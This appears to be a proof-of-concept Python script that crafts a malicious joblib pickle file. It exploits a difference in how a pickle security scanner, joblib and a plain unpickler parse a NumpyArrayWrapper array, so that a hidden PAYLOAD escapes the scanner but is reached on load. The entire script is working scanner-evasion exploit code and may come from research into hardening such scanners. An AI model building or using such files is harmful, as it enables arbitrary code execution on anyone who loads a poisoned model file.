from mk import *
# Correct wrapper (6 args, alignment None), dtype 'u1,u1' (numpy itemsize 2, scanner parses 1)
N=20
W = G('joblib.numpy_pickle','NumpyArrayWrapper')+b'('+G('numpy','ndarray')+b'K'+bytes([N])+b'\x85'+U('C')+dtype('u1,u1')+b'\x89Ntb'
# Hmm use REDUCE with tuple
W = G('joblib.numpy_pickle','NumpyArrayWrapper')+b'('+G('numpy','ndarray')+b'K'+bytes([N])+b'\x85'+U('C')+dtype('u1,u1')+b'\x89NtR}b'
hdr=b'\x80\x02'+W
# scanner: skips N bytes; joblib skips 2N. plain: reads from 0.
tail=b'0'+PAYLOAD+b'.'
total=2*N+len(tail)
arr=bytearray(2*N)
# plain at 0: BINSTRING to total-1
arr[0:5]=b'T'+struct.pack('<i',total-1-5)
# scanner at N: POP, BINSTRING to total-1
arr[N]=ord('0'); arr[N+1:N+6]=b'T'+struct.pack('<i',total-1-(N+6))
check('x2.joblib', hdr+bytes(arr)+tail)
